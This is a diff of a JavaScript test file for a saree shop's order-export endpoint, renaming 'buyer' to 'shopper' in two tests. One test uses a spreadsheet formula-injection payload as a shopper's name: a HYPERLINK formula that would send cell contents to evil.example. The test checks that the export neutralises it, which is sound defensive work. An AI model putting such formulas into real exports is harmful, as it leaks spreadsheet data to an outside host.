@@ -330,9 +330,9 @@ describe("exporting and importing the catalogue", () => {
 
 describe("GET /orders/exportOrders", () => {
   it("answers the orders placed on the days asked, in India's time, and none from other days", async () => {
-    const buyer = await aShopper(shop.deps.db, { fullname: "Asha Rao" });
+    const shopper = await aShopper(shop.deps.db, { fullname: "Asha Rao" });
     const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "Chanderi Saree" });
-    const placed = await payCod(shop, buyer, [{ ...saree, quantity: 2 }]);
+    const placed = await payCod(shop, shopper, [{ ...saree, quantity: 2 }]);
     expect(placed.statusCode, placed.body).toBe(200);
     const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
 
@@ -367,9 +367,9 @@ describe("GET /orders/exportOrders", () => {
 
   it("writes a shopper's name that a spreadsheet would run as a formula as text, and amounts as numbers", async () => {
     const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
-    const buyer = await aShopper(shop.deps.db, { fullname: formula });
+    const shopper = await aShopper(shop.deps.db, { fullname: formula });
     const saree = await aSaree(shop.deps.db, { stock: 3, price: 1500, name: "-Sale- Kota Saree" });
-    const placed = await payCod(shop, buyer, [{ ...saree, quantity: 1 }]);
+    const placed = await payCod(shop, shopper, [{ ...saree, quantity: 1 }]);
     expect(placed.statusCode, placed.body).toBe(200);
     const today = new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
 
